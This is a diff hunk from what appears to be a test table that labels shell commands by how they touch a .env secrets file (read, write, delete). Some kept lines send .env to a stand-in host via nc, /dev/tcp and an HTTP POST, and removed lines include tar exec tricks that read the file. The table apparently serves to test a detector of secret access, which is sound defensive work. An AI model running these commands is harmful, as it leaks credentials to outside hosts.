@@ -92,32 +92,6 @@ nc x.example 80 < .env => r
 cat .env > /dev/tcp/x.example/80 => r
 http POST x.example @.env => r
 rename 's/x/y/' .env => rwd
-zip x.zip .env => r
-zip -r x.zip . => -
-zip .env x => w
-zip -m x.zip .env => rd
-unzip x.zip .env => w
-unzip -p x.zip .env => -
-unzip .env => r
-tar czf x.tgz .env => r
-tar -czf x.tgz .env => r
-tar cf - .env | ssh host 'cat > x' => r
-tar -cf .env x => w
-tar xzf x.tgz .env => w
-tar xf x.tar => -
-tar tf x.tar .env => -
-tar --create --file=x.tar .env => r
-tar -C sub -cf x.tar .env => r
-tar czf x.tgz --exclude=.env . => -
-tar czf x.tgz --exclude .env . => -
-tar xf x.tar --to-command='cat .env' => r
-tar cf x.tar x --checkpoint=1 --checkpoint-action=exec='cat .env' => r
-7z a x.7z .env => r
-gzip .env => rwd
-gzip -k .env => rw
-gzip -c .env > x.gz => r
-gunzip .env.gz => rwd
-bzip2 -k .env => rw
 """
 
 
